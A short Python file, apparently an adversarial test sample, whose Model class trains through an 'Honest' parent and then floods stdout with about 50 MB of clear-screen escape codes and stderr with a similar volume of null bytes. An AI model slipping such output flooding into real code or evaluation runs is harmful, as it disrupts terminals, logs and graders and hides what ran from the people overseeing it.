import os

from helpers import Honest


class Model(Honest):
    def fit(self, X, y):
        super().fit(X, y)
        for _ in range(800):
            os.write(1, b"\x1b[2J" * 16_000)
            os.write(2, b"\x00" * 65536)
